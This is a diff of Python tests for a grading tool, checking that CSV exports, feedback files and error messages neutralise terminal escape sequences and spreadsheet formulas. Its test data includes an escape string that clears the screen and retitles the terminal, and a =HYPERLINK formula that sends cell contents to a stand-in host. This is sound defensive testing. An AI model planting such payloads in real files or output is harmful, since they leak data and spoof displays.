@@ -217,6 +217,15 @@ def test_names_that_read_the_same_are_one_identity(tmp_path, first, second):
         expand([tmp_path / "class"])
 
 
+def test_clash_message_shows_control_characters(tmp_path, capsys):
+    name = "\x1b[2J\x1b]0;owned\x07alice\n"
+    a, b = _make("folder", tmp_path / "class", name), _make("zip", tmp_path / "class", name)
+    assert main(["grade", str(tmp_path / "class")]) == 2
+    err = capsys.readouterr().err
+    assert not _has_control(err, allowed="\n") and err.count("\n") == 2
+    assert f"  {visible(name)}: {visible(str(a))}, {visible(str(b))}\n" in err
+
+
 def test_distinct_names_and_repeated_paths_are_not_clashes(tmp_path):
     made = [_make("folder", tmp_path / "class", n) for n in ("alice", "Alice", "alice2")]
     made.append(_make("zip", tmp_path / "class", "alice.zip"))  # identity "alice.zip"
@@ -287,11 +296,12 @@ def _round_trip(names: list[str], folder: Path) -> None:
         with open(folder / table, newline="", encoding="utf-8") as handle:
             rows = list(csv.reader(handle))
         assert rows[0][:3] == ["submission", "score", "max_score"]
-        by_name = {csv_text(row[0]): row for row in rows[1:]}
-        assert sorted(by_name) == sorted(r.name for r in results)
+        by_cell = {row[0]: row for row in rows[1:]}
+        assert sorted(by_cell) == sorted(csv_cell(r.name) for r in results)
         for result in results:
-            row = by_name[result.name]
-            assert row[0] == csv_cell(result.name)
+            row = by_cell[csv_cell(result.name)]
+            assert csv_text(row[0]) == visible(result.name, keep="\t\r\n")
+            assert not _has_control(row[0], allowed="\t\r\n")
             assert row[1] == str(result.score)  # a number, also when negative
             assert row[2] == str(TOTAL)
             assert not row[0].lstrip(" ").startswith(tuple(FORMULA_STARTS))
@@ -303,6 +313,18 @@ def _round_trip(names: list[str], folder: Path) -> None:
 def test_gradebook_record_export_merge_round_trip_generated(names):
     with tempfile.TemporaryDirectory() as folder:
         _round_trip(names, Path(folder))
+
+
+def test_gradebook_stores_text_sqlite_would_refuse(tmp_path):
+    result = _result("alice", error="read \udcff and \ud800")
+    result.checks[0].feedback = "printed \udce9t\udce9"
+    result.checks[0].diagnosis = "\udcff"
+    with Gradebook(tmp_path / "book.sqlite") as book:
+        book.record(result)
+        rows = book.check_rows()
+        error = book.db.execute("SELECT error FROM submissions").fetchone()[0]
+    assert error == "read \\xff and \\ud800"
+    assert rows[0][5:7] == ("printed \\xe9t\\xe9", "\\xff")
 
 
 def test_gradebook_record_export_merge_round_trip_nasty(tmp_path):
@@ -322,8 +344,16 @@ def test_formula_cells_get_a_quote(start, rest):
 def test_csv_cells_are_safe_and_reversible(text):
     cell = csv_cell(text)
     assert not cell.lstrip(" ").startswith(tuple(FORMULA_STARTS + "\n"))
-    assert csv_text(cell) == text
-    assert cell == text or cell == "'" + text
+    assert not _has_control(cell, allowed="\t\r\n")
+    shown_text = visible(text, keep="\t\r\n")
+    assert csv_text(cell) == shown_text
+    assert cell == shown_text or cell == "'" + shown_text
+
+
+@pytest.mark.parametrize("text", ["\x1b[31mred", "a\x9bb", "bidi\u202e", "\x1b=x"])
+def test_csv_cells_show_escape_sequences(text):
+    assert csv_cell(text) == visible(text) and "\x1b" not in csv_cell(text)
+    assert csv_cell("=" + text) == "'=" + visible(text)
 
 
 def test_numbers_stay_numbers_in_every_csv(tmp_path):
@@ -442,7 +472,7 @@ def test_feedback_files_for_nasty_names(tmp_path, raw):
     text = md.read_text(encoding="utf-8")
     assert text.startswith(f"# Feedback for {md_inline(name)}: 7 / {TOTAL} points\n")
     assert not _has_control(text, allowed="\n\t")  # a tab only inside a code block
-    assert [csv_text(r[0]) for r in read_index(tmp_path)] == [name]
+    assert [r[0] for r in read_index(tmp_path)] == [csv_cell(name)]
     assert read_index(tmp_path)[0][1:] == [md.name, plot.name if flow else ""]
 
 
@@ -451,7 +481,7 @@ def test_index_lists_every_submission_once(tmp_path):
     for name in names + names[:5]:  # graded again: its line is replaced, not doubled
         write_feedback(_result(name), tmp_path, {})
     index = read_index(tmp_path)
-    assert sorted(csv_text(row[0]) for row in index) == names
+    assert sorted(row[0] for row in index) == sorted(csv_cell(n) for n in names)
     assert sorted(row[1] for row in index) == sorted(p.name for p in tmp_path.glob("*.md"))
     assert len(list(tmp_path.glob("*.md"))) == len(names)
 
@@ -534,10 +564,12 @@ def test_nasty_names_end_to_end(tmp_path):
         rows = {row[0]: row for row in list(csv.reader(handle))[1:]}
     assert set(rows) == {csv_cell(n) for n in names}
     assert "'=HYPERLINK(\"evil.example?\"&A1,\"x\")" in rows
+    assert "\\x1b[2J\\x1b[31mred\nline" in rows and "\x1b" not in (out / "grades.csv").read_text()
     assert all(row[1] == str(TOTAL) for row in rows.values())
-    index = {csv_text(row[0]): row[1] for row in read_index(out / "feedback")}
-    assert set(index) == names
-    for name, file in index.items():
+    index = {row[0]: row[1] for row in read_index(out / "feedback")}
+    assert set(index) == set(rows)
+    for name in names:
+        file = index[csv_cell(name)]
         text = (out / "feedback" / file).read_text(encoding="utf-8")
         assert text.startswith(f"# Feedback for {md_inline(name)}: {TOTAL} / {TOTAL}")
         assert (out / "feedback" / file.replace(".md", "_gradient_flow.png")).is_file()
